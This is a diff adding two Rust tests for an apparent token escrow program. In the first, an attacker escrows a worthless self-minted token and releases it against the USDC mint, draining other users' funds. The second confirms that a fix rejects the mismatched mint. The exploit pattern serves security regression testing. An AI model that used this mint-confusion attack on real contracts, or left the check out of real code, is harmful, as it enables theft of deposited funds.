@@ -0,0 +1,43 @@
+#[tokio::test]
+async fn test_worthless_deposit_usdc_payout_exploit() {
+    println!("\n=== EXPLOIT: Escrow Pays Out A Different Mint ===\n");
+
+    let mallory = Keypair::new();
+    fund_vault(&USDC_MINT, 2_000_000 * USDC).await;
+
+    println!("1. Mallory escrows 1,000,000 of her own worthless token");
+    let junk_mint = create_mint(&mallory).await;
+    mint_to(&junk_mint, &mallory, 1_000_000 * USDC).await;
+    let escrow = create_escrow(&mallory, &junk_mint, 1_000_000 * USDC, now(), &USDC_MINT).await.unwrap();
+
+    println!("\n2. Mallory releases the escrow");
+    // Vulnerable: payout_mint != deposit_mint
+    release(&escrow, &mallory, &USDC_MINT).await.unwrap();
+
+    assert_eq!(get_token_balance(&ata(&mallory, &USDC_MINT)).await, 1_000_000 * USDC);
+
+    println!("\n   EXPLOIT SUCCESSFUL!");
+    println!("   ✗ 1,000,000 USDC taken from other users' escrows");
+}
+
+#[tokio::test]
+async fn test_single_mint_escrow() {
+    println!("\n=== SECURITY: Deposit And Payout Share One Mint ===\n");
+
+    let mallory = Keypair::new();
+    fund_vault(&USDC_MINT, 2_000_000 * USDC).await;
+    let junk_mint = create_mint(&mallory).await;
+    mint_to(&junk_mint, &mallory, 1_000_000 * USDC).await;
+    let escrow = create_escrow(&mallory, &junk_mint, 1_000_000 * USDC, now()).await.unwrap();
+
+    println!("1. Release with the USDC mint and vault");
+    let result = release(&escrow, &mallory, &USDC_MINT).await;
+    assert!(result.is_err());
+    println!("   ✓ Error: ConstraintHasOne (mint)");
+
+    println!("\n2. Release with the deposited mint");
+    release(&escrow, &mallory, &junk_mint).await.unwrap();
+    assert_eq!(get_token_balance(&ata(&mallory, &junk_mint)).await, 1_000_000 * USDC);
+    assert_eq!(get_token_balance(&vault_pda(&USDC_MINT)).await, 2_000_000 * USDC);
+    println!("   ✓ Mallory gets her own tokens back; USDC vault untouched");
+}